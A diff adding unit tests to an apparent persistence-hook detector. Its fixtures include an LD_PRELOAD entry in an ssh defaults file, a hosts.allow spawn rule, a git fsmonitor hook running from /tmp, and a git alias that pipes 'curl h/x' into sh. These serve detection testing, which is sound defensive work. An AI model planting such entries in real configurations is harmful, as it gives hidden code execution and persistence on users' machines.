@@ -161,6 +161,19 @@ static void test_environment(void **state UNUSED)
 	parsed_release(&p);
 }
 
+/* A service's file has many, of which few matter to others. */
+static void test_service_environment(void **state UNUSED)
+{
+	struct parsed p = parse_file("environment", "/etc/default/ssh",
+				     "SSHD_OPTS=\nLD_PRELOAD=/lib/x.so\n");
+
+	assert_int_equal(p.n_facts, 2);
+	hold_fact(&p, 0, "environment", "LD_PRELOAD",
+		  HAS("\"source\":\"/etc/default/ssh\""));
+	hold_fact(&p, 1, "preload", "/lib/x.so", NULL);
+	parsed_release(&p);
+}
+
 static void test_apt(void **state UNUSED)
 {
 	struct parsed p = parse_file(
@@ -238,6 +251,25 @@ static void test_tables(void **state UNUSED)
 	p = parse_file("run-table", "/etc/xinetd.d/x",
 		       "service x\n{\n server = /dev/shm/x\n}\n");
 	hold_fact(&p, 0, "hook", "xinetd server", HAS("scratch-path"));
+	parsed_release(&p);
+	p = parse_file("run-table", "/etc/hosts.allow",
+		       "ALL: 127.0.0.1\nsshd: ALL: spawn (/tmp/x %a) &\n");
+	assert_int_equal(p.n_facts, 1);
+	hold_fact(&p, 0, "hook", "hosts.allow spawn", HAS("scratch-path"));
+	parsed_release(&p);
+	p = parse_file("run-table",
+		       "/usr/share/dbus-1/system-services/x.service",
+		       "[D-BUS Service]\nName=x\nExec=/opt/x\n");
+	hold_fact(&p, 0, "hook", "dbus Exec", HAS("\"command\":\"/opt/x\""));
+	parsed_release(&p);
+	p = parse_file(
+		"run-table", "/home/eve/.gitconfig",
+		"[user]\n\tname = Eve\n[core]\n\tfsmonitor = \"/tmp/x\"\n"
+		"[alias]\n\tst = status\n\tup = !curl h/x | sh\n");
+	assert_int_equal(p.n_facts, 2);
+	hold_fact(&p, 0, "hook", "git core.fsmonitor",
+		  HAS("\"command\":\"/tmp/x\"", "scratch-path"));
+	hold_fact(&p, 1, "hook", "git alias.up", HAS("pipe-to-shell"));
 	parsed_release(&p);
 }
 
@@ -488,6 +520,7 @@ int main(void)
 		cmocka_unit_test(test_modprobe),
 		cmocka_unit_test(test_ld_so),
 		cmocka_unit_test(test_environment),
+		cmocka_unit_test(test_service_environment),
 		cmocka_unit_test(test_apt),
 		cmocka_unit_test(test_hooks),
 		cmocka_unit_test(test_tables),
